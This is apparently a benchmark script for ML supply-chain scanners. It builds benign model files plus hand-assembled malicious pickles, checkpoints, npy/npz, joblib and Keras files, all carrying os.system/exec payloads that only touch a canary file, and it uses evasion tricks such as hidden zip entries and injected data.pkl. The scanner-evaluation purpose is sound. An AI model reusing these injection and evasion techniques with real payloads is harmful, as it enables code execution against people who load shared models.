"""Supply-chain benchmark: poisonscan vs modelscan, picklescan and fickling on one corpus.

    .venv/bin/python bench/supply_chain_bench.py [--big-gib 1] [--corpus bench/corpus] [--timeout 300]

Needs, once:
    .venv/bin/pip install torch==2.13.0              # bench-only: writes the torch checkpoints
    python3 -m venv bench/.venv-anchors               # the anchor tools, kept out of poisonscan's venv
    bench/.venv-anchors/bin/pip install 'modelscan[tensorflow,h5py]==0.8.8' tensorflow==2.21.0 numpy==2.2.6 \
        picklescan==1.0.5 fickling==0.1.12
(the script runs the second and third steps itself when bench/.venv-anchors is missing).

What it does, in one run:
1. Builds a corpus in --corpus (default bench/corpus/, gitignored; wiped and rebuilt each run):
   benign files written by the libraries themselves (torch.save zip and legacy, Keras .keras/.h5,
   scikit-learn via joblib and pickle, numpy .npy/.npz, safetensors, an OrderedDict pickle, a zip
   and a tar.gz bundle) and malicious ones, hand-assembled opcode by opcode, whose payload would
   `touch` a canary file if anything ever loaded them (raw pickles in protocols 0/2/4, payloads
   injected into torch zip/legacy checkpoints, joblib, npy/npz object arrays, uncommon import
   paths, stacked/truncated/junk-tailed pickles, a zip whose central directory hides an entry,
   zip-in-zip, tar.gz, Keras Lambda layers). corpus/manifest.json lists format, label and trick.
2. Runs every tool on every file as a CLI, one process per file:
   poisonscan  .venv/bin/poisonscan scan --model F --format json   flagged = verdict warn|fail
               (a model-role refusal of a dataset kind, e.g. npz, is retried with --dataset)
   modelscan   modelscan -p F -r json -o OUT   exit 0 clean, 1 issues, 2 error, 3 nothing scanned (also when
               every scanner errored), 4 usage; the JSON report decides: issues > 0 = flagged
   picklescan  picklescan -p F   exit 0 clean, 1 dangerous globals, 2 scan error (wins over 1, so the
               "Dangerous globals: N" summary line decides flagged)
   fickling    fickling --check-safety F --json-output OUT   exit 0 clean, 1 unsafe, 2 parse error
3. With --big-gib N > 0: an N GiB safetensors file and an ~N GiB torch zip checkpoint, each timed
   under every tool, sha256sum and openssl dgst -sha256 (files are read once beforehand so all runs hit the page cache).
4. Prints a markdown summary table and a file x tool matrix; writes bench/results/supply-chain-<ts>.json.

Safety: nothing here ever unpickles or loads a malicious file (no pickle.load, torch.load, joblib.load,
np.load(allow_pickle=True), keras load_model). Malicious pickles are assembled as bytes and checked
only with pickletools (a disassembler); torch-zip variants are checked with torch's zip reader, which
reads records without unpickling. The run ends by asserting that the canary file does not exist.
"""

from __future__ import annotations

import argparse
import collections
import hashlib
import io
import json
import os
import pickle
import pickletools
import platform
import re
import shlex
import shutil
import struct
import subprocess
import sys
import tarfile
import tempfile
import time
import zipfile
import zlib
from dataclasses import asdict, dataclass, field
from datetime import datetime
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
BENCH = REPO / "bench"
POISONSCAN = REPO / ".venv" / "bin" / "poisonscan"
ANCHOR_VENV = BENCH / ".venv-anchors"
# modelscan needs its tensorflow extra to scan .keras and h5py for .h5; its numpy scanner calls
# numpy.lib.format._check_version, which numpy 2.3 removed, hence numpy 2.2 in this venv.
ANCHOR_PINS = ["modelscan[tensorflow,h5py]==0.8.8", "tensorflow==2.21.0", "numpy==2.2.6", "picklescan==1.0.5", "fickling==0.1.12"]
TORCH_VERSION = "2.13.0"
CANARY_NAME = "CANARY-if-this-exists-a-file-was-loaded"
MiB = 1024 * 1024
GiB = 1024 * MiB


# --------------------------------------------------------------------------------------------
# A tiny pickle assembler. It only writes opcodes; nothing here ever unpickles.
# --------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class G:
    """A global reference, module.name."""
    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """fn(*args) via REDUCE; fn is a G or another Call."""
    fn: object
    args: tuple


@dataclass(frozen=True)
class Inst:
    """module.name(*args) via the INST opcode (no GLOBAL, no REDUCE)."""
    module: str
    name: str
    args: tuple


class Asm:
    def __init__(self, proto: int):
        self.proto = proto
        self.ops = bytearray()

    def push(self, v) -> "Asm":
        p = self.proto
        if isinstance(v, G):
            if p >= 4:
                self.push(v.module).push(v.name)
                self.ops += pickle.STACK_GLOBAL
            else:
                self.ops += pickle.GLOBAL + f"{v.module}\n{v.name}\n".encode()
        elif isinstance(v, Call):
            self.push(v.fn).push(tuple(v.args))
            self.ops += pickle.REDUCE
        elif isinstance(v, Inst):
            self.ops += pickle.MARK
            for a in v.args:
                self.push(a)
            self.ops += pickle.INST + f"{v.module}\n{v.name}\n".encode()
        elif isinstance(v, str):
            b = v.encode()
            if p == 0:
                assert "\n" not in v and "\\" not in v
                self.ops += pickle.UNICODE + v.encode("raw-unicode-escape") + b"\n"
            elif p >= 4 and len(b) < 256:
                self.ops += pickle.SHORT_BINUNICODE + bytes([len(b)]) + b
            else:
                self.ops += pickle.BINUNICODE + struct.pack("<I", len(b)) + b
        elif isinstance(v, tuple):
            if p >= 2 and 1 <= len(v) <= 3:
                for x in v:
                    self.push(x)
                self.ops += (pickle.TUPLE1, pickle.TUPLE2, pickle.TUPLE3)[len(v) - 1]
            elif p >= 1 and not v:
                self.ops += pickle.EMPTY_TUPLE
            else:
                self.ops += pickle.MARK
                for x in v:
                    self.push(x)
                self.ops += pickle.TUPLE
        elif isinstance(v, dict) and not v:
            self.ops += pickle.EMPTY_DICT if p >= 1 else pickle.MARK + pickle.DICT
        else:
            raise TypeError(f"cannot assemble {v!r}")
        return self


def assemble(value, proto: int, *, frame: bool = True) -> bytes:
    """A complete pickle whose result is ``value`` (evaluated at load time, never here)."""
    body = bytes(Asm(proto).push(value).ops) + pickle.STOP
    if proto < 2:
        return body
    head = pickle.PROTO + bytes([proto])
    if proto >= 4 and frame:
        head += pickle.FRAME + struct.pack("<Q", len(body))
    return head + body


def payload_ops(value) -> bytes:
    """Opcodes that evaluate ``value`` and POP the result: valid inside any protocol >= 0 stream."""
    return bytes(Asm(2).push(value).ops) + pickle.POP


def inject_after_proto(pkl: bytes, value) -> bytes:
    """Run ``value`` first, then the original pickle unchanged (fickling-style injection)."""
    assert pkl[:1] == pickle.PROTO, pkl[:4]
    return pkl[:2] + payload_ops(value) + pkl[2:]


def disassemble(pkl: bytes) -> str:
    """pickletools.dis: a static disassembler that also checks stack/mark consistency. Never loads."""
    out = io.StringIO()
    pickletools.dis(pkl, out=out)
    return out.getvalue()


def static_globals(pkl: bytes) -> list[str]:
    """module.name of every GLOBAL/STACK_GLOBAL/INST up to the first STOP or decoding error."""
    found, strings = [], []
    try:
        for op, arg, _ in pickletools.genops(pkl):
            if op.name in ("GLOBAL", "INST"):
                found.append(arg.replace(" ", "."))
            elif op.name == "STACK_GLOBAL" and len(strings) >= 2:
                found.append(f"{strings[-2]}.{strings[-1]}")
            elif isinstance(arg, str) and op.name in ("SHORT_BINUNICODE", "BINUNICODE", "UNICODE"):
                strings.append(arg)
            if op.name == "STOP":
                break
    except Exception:  # noqa: BLE001  (truncated or junk-tailed on purpose)
        pass
    return found


# --------------------------------------------------------------------------------------------
# Zip writing in torch's own layout: STORED, data-descriptor flag, 'FB' padding to 64-byte
# aligned data in the local headers only, zip64 end records. Optionally hides local entries
# from the central directory.
# --------------------------------------------------------------------------------------------

def torch_style_zip(entries: list[tuple[str, bytes]], hidden: frozenset[str] = frozenset()) -> bytes:
    out = bytearray()
    central = []
    for name, data in entries:
        nb = name.encode()
        offset = len(out)
        pad = (-(offset + 30 + len(nb) + 4)) % 64
        extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        crc = zlib.crc32(data)
        out += struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 0, 0x0808, 0, 0, 0, 0, 0, 0, len(nb), len(extra)) + nb + extra
        assert len(out) % 64 == 0
        out += data
        out += struct.pack("<4sIII", b"PK\x07\x08", crc, len(data), len(data))
        if name not in hidden:
            central.append(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 0, 0, 0x0808, 0, 0, 0, crc, len(data), len(data),
                                       len(nb), 0, 0, 0, 0, 0, offset) + nb)
    cd_offset = len(out)
    cd = b"".join(central)
    out += cd
    z64_offset = len(out)
    n = len(central)
    out += struct.pack("<4sQHHIIQQQQ", b"PK\x06\x06", 44, 0x031E, 45, 0, 0, n, n, len(cd), cd_offset)
    out += struct.pack("<4sIQI", b"PK\x06\x07", 0, z64_offset, 1)
    out += struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, len(cd), cd_offset, 0)
    return bytes(out)


# --------------------------------------------------------------------------------------------
# Corpus
# --------------------------------------------------------------------------------------------

@dataclass
class Sample:
    name: str
    label: str  # benign | malicious
    format: str
    trick: str
    payload: str = ""
    size: int = 0
    sha256: str = ""
    static_globals: list[str] = field(default_factory=list)
    check: str = ""  # how the file was checked without loading it

    @property
    def path(self) -> Path:
        return CORPUS / self.name


CORPUS: Path = BENCH / "corpus"


class CorpusBuilder:
    def __init__(self, root: Path, canary: Path):
        self.root, self.canary = root, canary
        self.samples: list[Sample] = []
        self.cmd = f"touch {shlex.quote(str(canary))}"

    # payload shapes -----------------------------------------------------------------------
    def os_system(self, module: str = "os") -> Call:
        return Call(G(module, "system"), (self.cmd,))

    def add(self, name: str, data: bytes, label: str, fmt: str, trick: str, payload: str = "", check: str = "") -> Sample:
        path = self.root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(data)
        s = Sample(name, label, fmt, trick, payload, len(data), hashlib.sha256(data).hexdigest(), check=check)
        self.samples.append(s)
        return s

    def add_file(self, name: str, label: str, fmt: str, trick: str, payload: str = "", check: str = "") -> Sample:
        data = (self.root / name).read_bytes()
        s = Sample(name, label, fmt, trick, payload, len(data), hashlib.sha256(data).hexdigest(), check=check)
        self.samples.append(s)
        return s

    def add_pickle(self, name: str, data: bytes, trick: str, payload: str, *, complete: bool = True, fmt: str = "pickle") -> Sample:
        if complete:
            disassemble(data)  # raises on malformed opcodes / stack errors
        s = self.add(name, data, "malicious", fmt, trick, payload, check="pickletools.dis" if complete else "pickletools.genops prefix")
        s.static_globals = static_globals(data)
        return s

    # benign ------------------------------------------------------------------------------
    def benign(self, torch, np, keras, st_numpy) -> dict:
        import joblib
        from sklearn.ensemble import RandomForestClassifier

        rng = np.random.default_rng(0)
        torch.manual_seed(0)
        net = torch.nn.Sequential(torch.nn.Linear(64, 128), torch.nn.ReLU(), torch.nn.Linear(128, 10))
        sd = net.state_dict()
        refs = {}

        buf = io.BytesIO()
        torch.save(sd, buf)
        refs["torch_zip"] = buf.getvalue()
        self.add("benign/torch_state_dict.pt", refs["torch_zip"], "benign", "pytorch_zip", "torch.save state dict (zip)")
        self.add("benign/pytorch_model.bin", refs["torch_zip"], "benign", "pytorch_zip", "torch.save state dict (zip) named like HF pytorch_model.bin")
        buf = io.BytesIO()
        torch.save(sd, buf, _use_new_zipfile_serialization=False)
        refs["torch_legacy"] = buf.getvalue()
        self.add("benign/torch_state_dict_legacy.pt", refs["torch_legacy"], "benign", "pytorch_legacy", "torch.save _use_new_zipfile_serialization=False")

        model = keras.Sequential([keras.Input((8,)), keras.layers.Dense(16, activation="relu"), keras.layers.Dense(2)])
        model.save(self.root / "benign/keras_dense.keras")
        self.add_file("benign/keras_dense.keras", "benign", "keras", "Keras 3 .keras (zip: config.json + weights.h5)")
        model.save(self.root / "benign/keras_dense.h5")
        self.add_file("benign/keras_dense.h5", "benign", "hdf5", "Keras legacy HDF5 .h5")

        X, y = rng.normal(size=(200, 6)), rng.integers(0, 2, 200)
        clf = RandomForestClassifier(n_estimators=8, max_depth=4, random_state=0).fit(X, y)
        buf = io.BytesIO()
        joblib.dump(clf, buf)
        refs["joblib"] = buf.getvalue()
        self.add("benign/sklearn_rf.joblib", refs["joblib"], "benign", "joblib", "sklearn RandomForest via joblib.dump")
        buf = io.BytesIO()
        joblib.dump(clf, buf, compress=3)
        self.add("benign/sklearn_rf_zlib.joblib", buf.getvalue(), "benign", "joblib_zlib", "sklearn RandomForest via joblib.dump(compress=3)")
        self.add("benign/sklearn_rf.pkl", pickle.dumps(clf), "benign", "pickle", "sklearn RandomForest via pickle.dumps")

        arr = rng.normal(size=(256, 64)).astype(np.float32)
        buf = io.BytesIO()
        np.save(buf, arr)
        self.add("benign/weights.npy", buf.getvalue(), "benign", "npy", "np.save float32 array")
        np.savez(self.root / "benign/weights.npz", w=arr, b=np.zeros(64, np.float32))
        self.add_file("benign/weights.npz", "benign", "npz", "np.savez, numeric arrays only")
        np.savez_compressed(self.root / "benign/weights_compressed.npz", w=arr, b=np.zeros(64, np.float32))
        self.add_file("benign/weights_compressed.npz", "benign", "npz", "np.savez_compressed, numeric arrays only")

        tensors = {k: v.numpy() for k, v in sd.items()}
        refs["safetensors"] = st_numpy.save(tensors)
        self.add("benign/model.safetensors", refs["safetensors"], "benign", "safetensors", "safetensors.numpy.save")

        od = collections.OrderedDict((k, v.copy()) for k, v in tensors.items())
        refs["od_pickle"] = pickle.dumps(od)
        self.add("benign/state_dict_numpy.pkl", refs["od_pickle"], "benign", "pickle", f"pickle (protocol {pickle.DEFAULT_PROTOCOL}) of OrderedDict of numpy arrays")

        config = json.dumps({"architectures": ["TinyNet"], "hidden": 128}).encode()
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("bundle/model.safetensors", refs["safetensors"])
            zf.writestr("bundle/config.json", config)
        self.add("benign/bundle.zip", buf.getvalue(), "benign", "zip", "zip of safetensors + config.json")
        self.add("benign/bundle.tar.gz", _tar_gz({"bundle/model.safetensors": refs["safetensors"], "bundle/config.json": config}),
                 "benign", "tar.gz", "tar.gz of safetensors + config.json")
        return refs

    # malicious ---------------------------------------------------------------------------
    def malicious(self, refs: dict, torch, np, keras) -> None:
        sysc = self.os_system()

        for proto in (0, 2, 4):
            self.add_pickle(f"malicious/raw_p{proto}_os_system.pkl", assemble(sysc, proto), f"raw pickle protocol {proto}, GLOBAL os.system + REDUCE", "os.system")

        # torch zip with the payload injected into data.pkl, layout rebuilt as torch writes it
        with zipfile.ZipFile(io.BytesIO(refs["torch_zip"])) as zf:
            entries = [(i.filename, zf.read(i.filename)) for i in zf.infolist()]
        injected = [(n, inject_after_proto(d, sysc) if n.endswith("/data.pkl") else d) for n, d in entries]
        tz = torch_style_zip(injected)
        check = _torch_zip_check(torch, tz, dict(injected))
        for name, trick in (("torch_zip_injected.pt", "torch zip, os.system injected at the start of data.pkl (torch layout kept)"),
                            ("torch_zip_injected.bin", "same injected torch zip, .bin name"),
                            ("torch_zip_injected_as.safetensors", "same injected torch zip disguised as .safetensors"),
                            ("torch_zip_injected_as.npy", "same injected torch zip disguised as .npy")):
            s = self.add(f"malicious/{name}", tz, "malicious", "pytorch_zip", trick, "os.system", check=check)
            s.static_globals = static_globals(dict(injected)[entries[0][0]])

        # legacy torch: the first of its stacked pickles (the magic number) carries the payload
        legacy = refs["torch_legacy"]
        magic_end = legacy.index(pickle.STOP) + 1
        first = inject_after_proto(legacy[:magic_end], sysc)
        disassemble(first)
        s = self.add("malicious/torch_legacy_injected.pt", first + legacy[magic_end:], "malicious", "pytorch_legacy",
                     "legacy torch checkpoint, os.system injected into the magic-number pickle", "os.system", check="pickletools.dis (first pickle)")
        s.static_globals = static_globals(first)

        # joblib: payload ahead of joblib's own pickle stream (arrays follow it raw), plain and zlib-compressed
        jl = inject_after_proto(refs["joblib"], sysc)
        s = self.add("malicious/sklearn_rf_injected.joblib", jl, "malicious", "joblib", "joblib.dump(RandomForest) with os.system injected before the model",
                     "os.system", check="pickletools.genops prefix")
        s.static_globals = static_globals(jl)
        s = self.add("malicious/sklearn_rf_injected_zlib.joblib", zlib.compress(jl, 3), "malicious", "joblib_zlib",
                     "same, zlib-compressed as joblib.dump(compress=3) writes it: payload only visible after inflating", "os.system", check="zlib of the above")
        s.static_globals = static_globals(jl)

        # numpy object arrays: np.save writes the pickle; the payload goes ahead of it
        buf = io.BytesIO()
        np.save(buf, np.array([{"lr": 0.1}, {"epochs": 3}], dtype=object), allow_pickle=True)
        raw = buf.getvalue()
        hlen = struct.unpack("<H", raw[8:10])[0] if raw[6] == 1 else struct.unpack("<I", raw[8:12])[0]
        start = (10 if raw[6] == 1 else 12) + hlen
        obj_pkl = inject_after_proto(raw[start:], sysc)
        disassemble(obj_pkl)
        npy_evil = raw[:start] + obj_pkl
        s = self.add("malicious/object_array_payload.npy", npy_evil, "malicious", "npy", "npy object array (dtype=object) whose pickle carries os.system",
                     "os.system", check="pickletools.dis")
        s.static_globals = static_globals(obj_pkl)
        buf = io.BytesIO()
        np.save(buf, np.ones((32, 8), np.float32))
        npz = io.BytesIO()
        with zipfile.ZipFile(npz, "w", zipfile.ZIP_STORED) as zf:  # what np.savez writes
            zf.writestr("weights.npy", buf.getvalue())
            zf.writestr("meta.npy", npy_evil)
        s = self.add("malicious/object_array_payload.npz", npz.getvalue(), "malicious", "npz", "npz: numeric weights.npy + object-array meta.npy carrying os.system",
                     "os.system", check="pickletools.dis")
        s.static_globals = static_globals(obj_pkl)

        # the same function reached through other import paths and opcodes
        imp_os = Call(G("builtins", "__import__"), ("os",))
        variants = [
            ("posix_system", assemble(self.os_system("posix"), 2), "posix.system (os.system's real module on Linux)", "posix.system"),
            ("subprocess_popen", assemble(Call(G("subprocess", "Popen"), (("touch", str(self.canary)),)), 2), "subprocess.Popen(('touch', canary))", "subprocess.Popen"),
            ("builtins_exec", assemble(Call(G("builtins", "exec"), (f"import os; os.system({self.cmd!r})",)), 2), "builtins.exec of Python source", "builtins.exec"),
            ("builtins_eval", assemble(Call(G("builtins", "eval"), (f"__import__('os').system({self.cmd!r})",)), 2), "builtins.eval of an expression", "builtins.eval"),
            ("py2_builtin_eval_p0", assemble(Call(G("__builtin__", "eval"), (f"__import__('os').system({self.cmd!r})",)), 0), "protocol 0 __builtin__.eval (py2 name, mapped by fix_imports)", "__builtin__.eval"),
            ("runpy_run_code", assemble(Call(G("runpy", "_run_code"), (f"import os; os.system({self.cmd!r})", {})), 2), "runpy._run_code(source, {})", "runpy._run_code"),
            ("operator_methodcaller", assemble(Call(Call(G("operator", "methodcaller"), ("system", self.cmd)), (imp_os,)), 4),
             "operator.methodcaller('system', cmd)(__import__('os')), protocol 4 STACK_GLOBAL", "operator.methodcaller + builtins.__import__"),
            ("builtins_getattr_chain", assemble(Call(Call(G("builtins", "getattr"), (imp_os, "system")), (self.cmd,)), 2),
             "builtins.getattr(__import__('os'), 'system')(cmd)", "builtins.getattr + builtins.__import__"),
            ("inst_opcode_p0", assemble(Inst("os", "system", (self.cmd,)), 0), "protocol 0 INST opcode (no GLOBAL, no REDUCE)", "os.system"),
        ]
        for name, data, trick, payload in variants:
            self.add_pickle(f"malicious/{name}.pkl", data, trick, payload)

        # stacked, truncated, junk
        payload_p2 = assemble(sysc, 2)
        s = self.add("malicious/stacked_benign_then_payload.pkl", refs["od_pickle"] + payload_p2, "malicious", "pickle",
                     "two stacked pickles: benign OrderedDict first, os.system second (runs for loaders that read on, e.g. multi-pickle formats)",
                     "os.system", check="pickletools.dis (each)")
        disassemble(refs["od_pickle"]), disassemble(payload_p2)
        s.static_globals = static_globals(refs["od_pickle"]) + static_globals(payload_p2)
        od_tail = refs["od_pickle"][2:]
        self.add_pickle("malicious/truncated_after_payload.pkl", (pickle.PROTO + b"\x02" + payload_ops(sysc) + od_tail)[: -len(od_tail) // 2],
                        "payload, then a benign pickle cut off halfway (no STOP): loading runs the payload before it fails", "os.system", complete=False)
        self.add_pickle("malicious/junk_after_payload.pkl", payload_p2 + os.urandom(4096), "complete payload pickle followed by 4 KiB of random bytes", "os.system")
        self.add_pickle("malicious/bad_opcode_after_payload.pkl", pickle.PROTO + b"\x02" + payload_ops(sysc) + b"\xff\xfe junk",
                        "payload, then an invalid opcode (0xff) before any STOP", "os.system", complete=False)

        # containers
        hidden = torch_style_zip([("model.pkl", payload_p2), ("config.json", b'{"hidden": 128}')], hidden=frozenset({"model.pkl"}))
        with zipfile.ZipFile(io.BytesIO(hidden)) as zf:
            assert zf.namelist() == ["config.json"] and zf.testzip() is None
        s = self.add("malicious/zip_hidden_local_entry.zip", hidden, "malicious", "zip",
                     "local header model.pkl (payload) absent from the central directory: streaming unzippers see it, zipfile does not",
                     "os.system", check="zipfile lists only config.json; payload passes pickletools.dis")
        s.static_globals = static_globals(payload_p2)
        inner = io.BytesIO()
        with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as zf:
            zf.writestr("model/model.pkl", payload_p2)
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w", zipfile.ZIP_STORED) as zf:
            zf.writestr("release/inner.zip", inner.getvalue())
            zf.writestr("release/README.md", b"weights inside\n")
        s = self.add("malicious/zip_in_zip.zip", outer.getvalue(), "malicious", "zip", "zip inside a zip, payload pickle in the inner one", "os.system")
        s.static_globals = static_globals(payload_p2)
        s = self.add("malicious/model.tar.gz", _tar_gz({"model/model.pkl": payload_p2, "model/config.json": b"{}"}), "malicious", "tar.gz",
                     "tar.gz containing a payload pickle", "os.system")
        s.static_globals = static_globals(payload_p2)

        # Keras Lambda layers: built with a harmless lambda, its code object swapped for the payload
        # before saving (building a functional model calls the lambda; saving only marshals its code).
        evil = eval(f"lambda x: (__import__('os').system({self.cmd!r}), x)[1]")  # noqa: S307  (compiled, never called)
        fn = lambda x: x  # noqa: E731
        inp = keras.Input((8,))
        model = keras.Model(inp, keras.layers.Dense(2)(keras.layers.Lambda(fn)(inp)))
        fn.__code__ = evil.__code__
        for ext, fmt in (("keras", "keras"), ("h5", "hdf5")):
            model.save(self.root / f"malicious/keras_lambda.{ext}")
            s = self.add_file(f"malicious/keras_lambda.{ext}", "malicious", fmt, f"Keras .{ext} with a Lambda layer whose marshalled code runs os.system",
                              "os.system (Lambda bytecode)", check=_keras_check(self.root / f"malicious/keras_lambda.{ext}"))


def _tar_gz(members: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tf:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size, info.mtime = len(data), 1700000000
            tf.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _torch_zip_check(torch, data: bytes, expected: dict[str, bytes]) -> str:
    """torch's own zip reader (PyTorchFileReader) reads records; it does not unpickle."""
    with tempfile.NamedTemporaryFile(suffix=".pt") as f:
        f.write(data)
        f.flush()
        reader = torch._C.PyTorchFileReader(f.name)
        records = set(reader.get_all_records())
        assert bytes(reader.get_record("data.pkl")) == expected["archive/data.pkl"]
    disassemble(expected["archive/data.pkl"])
    return f"torch PyTorchFileReader reads {len(records)} records; data.pkl passes pickletools.dis"


def _keras_check(path: Path) -> str:
    if path.suffix == ".keras":
        with zipfile.ZipFile(path) as zf:
            config = zf.read("config.json").decode()
    else:
        import h5py
        with h5py.File(path, "r") as h5:
            config = h5.attrs["model_config"]
            config = config.decode() if isinstance(config, bytes) else str(config)
    assert '"Lambda"' in config, "no Lambda layer in the saved config"
    import base64
    codes = [base64.b64decode(c) for c in re.findall(r'"code": "([^"]+)"', config.replace("\\n", ""))]
    assert any(b"system" in c and CANARY_NAME.encode() in c for c in codes), "the Lambda's marshalled code lacks the payload"
    return "config names a Lambda layer whose marshalled code holds os.system + canary (read as JSON, not loaded)"


def build_corpus(root: Path) -> tuple[list[Sample], Path, dict]:
    os.environ.setdefault("TF_CPP_MIN_LOG_LEVEL", "3")
    try:
        import torch
    except ImportError:
        sys.exit(f"torch is missing: .venv/bin/pip install torch=={TORCH_VERSION}")
    import keras
    import numpy as np
    import safetensors.numpy as st_numpy

    if root.exists():
        shutil.rmtree(root)
    (root / "benign").mkdir(parents=True)
    (root / "malicious").mkdir()
    canary = root / CANARY_NAME
    builder = CorpusBuilder(root, canary)
    refs = builder.benign(torch, np, keras, st_numpy)
    builder.malicious(refs, torch, np, keras)
    assert not canary.exists(), "building the corpus ran a payload"
    versions = {"torch": torch.__version__, "keras": keras.__version__, "numpy": np.__version__}
    (root / "manifest.json").write_text(json.dumps([asdict(s) for s in builder.samples], indent=2))
    return builder.samples, canary, versions


# --------------------------------------------------------------------------------------------
# Tools
# --------------------------------------------------------------------------------------------

@dataclass
class Result:
    status: str  # flagged | clean | error | skipped
    seconds: float
    rc: int
    detail: str = ""
    verdict: str | None = None  # poisonscan only
    extra: dict = field(default_factory=dict)

    @property
    def flagged(self) -> bool:
        return self.status == "flagged"


def _run(argv: list[str], timeout: float, cwd: Path) -> tuple[int, str, str, float]:
    t = time.perf_counter()
    try:
        p = subprocess.run(argv, capture_output=True, text=True, errors="replace", timeout=timeout, cwd=cwd,
                           env={**os.environ, "TF_CPP_MIN_LOG_LEVEL": "3", "PYTHONWARNINGS": "ignore"})
        return p.returncode, p.stdout, p.stderr, time.perf_counter() - t
    except subprocess.TimeoutExpired as exc:
        out = exc.stdout.decode(errors="replace") if isinstance(exc.stdout, bytes) else (exc.stdout or "")
        return -9, out, f"timeout after {timeout}s", time.perf_counter() - t


def _last_line(text: str, pattern: str = r"\S", first: bool = False) -> str:
    lines = [ln.strip() for ln in text.replace("\r", "\n").splitlines() if re.search(pattern, ln)]
    return lines[0 if first else -1][:300] if lines else ""


POISONSCAN_FLAG_WORDS = re.compile(r"\b(malicious|unsafe|dangerous|suspicious|code execution|payload)\b", re.I)


def run_poisonscan(path: Path, timeout: float, work: Path) -> Result:
    rc, out, err, secs = _run([str(POISONSCAN), "scan", "--model", str(path), "--format", "json"], timeout, work)
    extra = {}
    if rc == 2 and "cannot be scanned as a model" in err:
        # a dataset kind (npz, ...) refused in the model role: scan it in the role that accepts it
        extra["model_role_error"] = _last_line(err, r"error:")
        rc, out, err, more = _run([str(POISONSCAN), "scan", "--dataset", str(path), "--format", "json"], timeout, work)
        secs += more
        extra["role"] = "dataset"
    try:
        report = json.loads(out)
        verdict = report["verdict"]
    except (ValueError, KeyError, TypeError):
        msg = _last_line(err, r"error:") or _last_line(err) or f"rc={rc}, no JSON"
        flagged = bool(POISONSCAN_FLAG_WORDS.search(msg))
        return Result("flagged" if flagged else "error", secs, rc, msg, None, extra)
    worst = [f"[{f['severity']}] {f['title']}" for d in report.get("detectors", []) for f in d.get("findings", []) if f.get("severity") not in ("info",)]
    extra.update(kind=(report.get("inputs") or [{}])[0].get("kind"), detectors_failed=report.get("summary", {}).get("detectors_failed", 0),
                 findings=worst[:8], verdict_reason=report.get("verdict_reason"))
    return Result("flagged" if verdict in ("warn", "fail") else "clean", secs, rc, report.get("verdict_reason", ""), verdict, extra)


def run_modelscan(path: Path, timeout: float, work: Path) -> Result:
    out_json = work / "modelscan.json"
    out_json.unlink(missing_ok=True)
    rc, out, err, secs = _run([str(ANCHOR_VENV / "bin/modelscan"), "-p", str(path), "-r", "json", "-o", str(out_json), "--show-skipped"], timeout, work)
    try:
        report = json.loads(out_json.read_text())
    except (OSError, ValueError):
        return Result("error", secs, rc, _last_line(out + err) or f"rc={rc}, no report")
    summary = report.get("summary", {})
    issues = summary.get("total_issues", 0)
    errors = report.get("errors", [])
    scanned = summary.get("scanned", {}).get("total_scanned", 0)
    skipped = summary.get("skipped", {}).get("skipped_files", [])
    extra = {"issues": issues, "by_severity": summary.get("total_issues_by_severity"), "scanned": scanned,
             "errors": [e.get("description", str(e))[:200] for e in errors][:4],
             "skipped": [s.get("description", "")[:200] for s in skipped][:4],
             "operators": sorted({f"{i.get('module')}.{i.get('operator')}" for i in report.get("issues", [])})[:8]}
    if issues:
        status, detail = "flagged", f"{issues} issue(s): {', '.join(extra['operators'])}"
    elif rc in (2, 4) or errors:
        status, detail = "error", "; ".join(extra["errors"]) or f"rc={rc}"
    elif rc == 3 or not scanned:
        status, detail = "skipped", "; ".join(extra["skipped"]) or "no supported file (rc=3)"
    else:
        status, detail = "clean", f"scanned {scanned}, no issues"
    return Result(status, secs, rc, detail, None, extra)


def run_picklescan(path: Path, timeout: float, work: Path) -> Result:
    rc, out, err, secs = _run([str(ANCHOR_VENV / "bin/picklescan"), "-p", str(path)], timeout, work)
    nums = {k: int(v) for k, v in re.findall(r"^(Scanned files|Infected files|Dangerous globals|Suspicious globals): (\d+)", out, re.M)}
    globals_ = sorted(set(re.findall(r"global import '([^']+)'", out + err)))[:8]
    extra = {**nums, "globals": globals_}
    if nums.get("Dangerous globals", 0) > 0:
        return Result("flagged", secs, rc, f"dangerous globals: {', '.join(globals_) or nums['Dangerous globals']}", None, extra)
    if rc == 2 or "Dangerous globals" not in nums:
        return Result("error", secs, rc, _last_line(out + "\n" + err, r"^(ERROR|WARNING|\w*Error)\b", first=True) or _last_line(out + err) or f"rc={rc}", None, extra)
    if rc == 1:
        return Result("flagged", secs, rc, "exit 1", None, extra)
    return Result("clean", secs, rc, f"suspicious globals: {nums.get('Suspicious globals', 0)}", None, extra)


def run_fickling(path: Path, timeout: float, work: Path) -> Result:
    out_json = work / "fickling.json"
    out_json.unlink(missing_ok=True)
    rc, out, err, secs = _run([str(ANCHOR_VENV / "bin/fickling"), "--check-safety", str(path), "--json-output", str(out_json)], timeout, work)
    severities = []
    try:
        text, dec, i = out_json.read_text(), json.JSONDecoder(), 0
        while i < len(text):  # one JSON object appended per stacked pickle
            while i < len(text) and text[i].isspace():
                i += 1
            if i >= len(text):
                break
            obj, i = dec.raw_decode(text, i)
            severities.append(obj.get("severity"))
    except (OSError, ValueError):
        pass
    extra = {"severities": severities}
    if rc == 1:
        return Result("flagged", secs, rc, f"unsafe: {', '.join(map(str, severities))}", None, extra)
    if rc == 0:
        return Result("clean", secs, rc, f"{', '.join(map(str, severities)) or 'no pickle'}", None, extra)
    return Result("error", secs, rc, _last_line(err, r"(?i)failed to parse|error", first=True) or _last_line(err + out) or f"rc={rc}", None, extra)


TOOLS = {"poisonscan": run_poisonscan, "modelscan": run_modelscan, "picklescan": run_picklescan, "fickling": run_fickling}


